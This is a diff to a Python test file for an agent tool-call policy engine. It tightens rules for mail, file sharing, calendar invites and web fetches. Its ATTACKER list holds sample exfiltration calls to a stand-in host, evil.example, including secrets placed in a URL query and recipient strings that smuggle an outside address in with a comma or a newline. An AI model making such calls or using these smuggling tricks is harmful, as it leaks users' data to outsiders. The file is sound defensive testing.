@@ -13,6 +13,7 @@ import pytest
 from intentusnet import IntentusRuntime, MemoryExecutionStore
 from intentusnet.policy import CompiledPolicy, compile_policy, parse_policy
 from intentusnet.policy.backtest import backtest
+from intentusnet.policy.loopholes import loopholes
 
 #: Every tool, and what its call does to the world.
 TOOLS = {
@@ -49,7 +50,7 @@ payload = { url = { glob = ["https://docs.example.com/*", "https://*.partner.exa
 id = "no-data-in-queries"
 effect = "deny"
 intent = "web.fetch"
-payload = { url = { glob = ["*[?]*=*", "*@*", "*[[]*"] } }
+payload = { url = { glob = ["*[?]*=*", "*@*", "*[[]*", "https://*[!a-z0-9.-]*.partner.example/*"] } }
 
 [[rules]]
 id = "known-payees"
@@ -71,10 +72,10 @@ intent = ["bank.send_money", "bank.schedule"]
 payload = { amount = { le = 0 } }
 
 [[rules]]
-id = "mail-to-one-colleague"
+id = "mail-to-colleagues"
 effect = "allow"
 intent = "mail.send"
-payload = { "recipients.0" = { glob = "*@corp.example" }, "recipients.1" = { exists = false } }
+payload = { "recipients[*]" = { glob = "*@corp.example", not_glob = ["*@*@*", "*[!a-z0-9.@_-]*"] } }
 
 [[rules]]
 id = "no-blind-copies"
@@ -86,13 +87,18 @@ payload = { bcc = { exists = true } }
 id = "share-to-read-inside"
 effect = "allow"
 intent = "files.share"
-payload = { email = { glob = "*@corp.example" }, permission = { eq = "r" } }
+payload = { email = { glob = "*@corp.example", not_glob = "*@*@*" }, permission = { eq = "r" } }
 
 [[rules]]
 id = "invitations-inside"
+effect = "deny"
+intent = "calendar.invite"
+payload = { "participants[*]" = { not_in = ["ann@corp.example", "bob@corp.example"] } }
+
+[[rules]]
+id = "invitations"
 effect = "allow"
 intent = "calendar.invite"
-payload = { "participants.0" = { glob = "*@corp.example" }, "participants.1" = { exists = false } }
 
 [[rules]]
 id = "posts-in-team-channels"
@@ -126,9 +132,14 @@ USER: list[tuple[str, dict[str, Any], str]] = [
     ("files.read", {"path": "bill-december.txt"}, "reading"),
     ("bank.send_money", {"recipient": KNOWN, "amount": 98.7, "subject": "bill"}, "known-payees"),
     ("bank.schedule", {"recipient": KNOWN, "amount": 500, "every": "month"}, "known-payees"),
-    ("mail.send", {"recipients": ["ann@corp.example"], "body": "see you"}, "mail-to-one-colleague"),
+    ("mail.send", {"recipients": ["ann@corp.example"], "body": "see you"}, "mail-to-colleagues"),
+    (
+        "mail.send",
+        {"recipients": ["ann@corp.example", "bob@corp.example"], "body": "hi"},
+        "mail-to-colleagues",
+    ),
     ("files.share", {"email": "bob@corp.example", "permission": "r", "id": "7"}, "share-to-read-inside"),
-    ("calendar.invite", {"participants": ["ann@corp.example"], "title": "1:1"}, "invitations-inside"),
+    ("calendar.invite", {"participants": ["ann@corp.example"], "title": "1:1"}, "invitations"),
     ("chat.post", {"channel": "team-web", "body": "the release is out"}, "posts-in-team-channels"),
     ("web.fetch", {"url": "https://docs.example.com/guide"}, "pages-of-partners"),
     ("web.fetch", {"url": "https://api.partner.example/v1/status"}, "pages-of-partners"),
@@ -145,16 +156,20 @@ ATTACKER: list[tuple[str, dict[str, Any], str | None]] = [
     ("mail.send", {"recipients": ["eve@evil.example"], "body": "the codes are"}, None),
     ("mail.send", {"recipients": ["ann@corp.example", "eve@evil.example"], "body": "fyi"}, None),
     ("mail.send", {"recipients": "ann@corp.example", "body": "fyi"}, None),
+    ("mail.send", {"recipients": ["eve@evil.example,ann@corp.example"], "body": "fyi"}, None),
+    ("mail.send", {"recipients": ["eve@evil.example\n@corp.example"], "body": "fyi"}, None),
+    ("mail.send", {"recipients": [], "body": "fyi"}, None),
     ("mail.send", {"recipients": ["ann@corp.example"], "bcc": ["eve@evil.example"]}, "no-blind-copies"),
     ("files.share", {"email": "eve@evil.example", "permission": "r"}, None),
     ("files.share", {"email": "bob@corp.example", "permission": "rw"}, None),
     ("files.delete", {"id": "13"}, "nothing-is-deleted"),
-    ("calendar.invite", {"participants": ["ann@corp.example", "eve@evil.example"]}, None),
+    ("calendar.invite", {"participants": ["ann@corp.example", "eve@evil.example"]}, "invitations-inside"),
     ("chat.post", {"channel": "team-web", "body": "log in at http://evil.example"}, "no-links-in-posts"),
     ("chat.post", {"channel": "random", "body": "hello"}, None),
     ("web.fetch", {"url": "https://evil.example/?d=secret"}, "no-data-in-queries"),
     ("web.fetch", {"url": "https://docs.example.com@evil.example/x"}, "no-data-in-queries"),
     ("web.fetch", {"url": "https://docs.example.com.evil.example/"}, None),
+    ("web.fetch", {"url": "https://evil.example/x.partner.example/"}, "no-data-in-queries"),
 ]
 
 
@@ -194,6 +209,11 @@ def test_what_the_attacker_asks_for_is_not(
     """The call is denied before the tool runs, and the rule that denies it, or the default, is on record."""
     runtime = tools.configure(policy=policy_of(POLICY))
     assert decided(runtime, tool, arguments) == ("POLICY_DENIAL", rule)
+
+
+def test_nothing_is_known_to_get_around_the_policy() -> None:
+    """Check knows of no rule that lets more through than it seems to."""
+    assert loopholes(policy_of(POLICY).source) == ()
 
 
 def test_the_policy_can_be_tried_on_what_was_recorded_without_it(tools: IntentusRuntime) -> None:
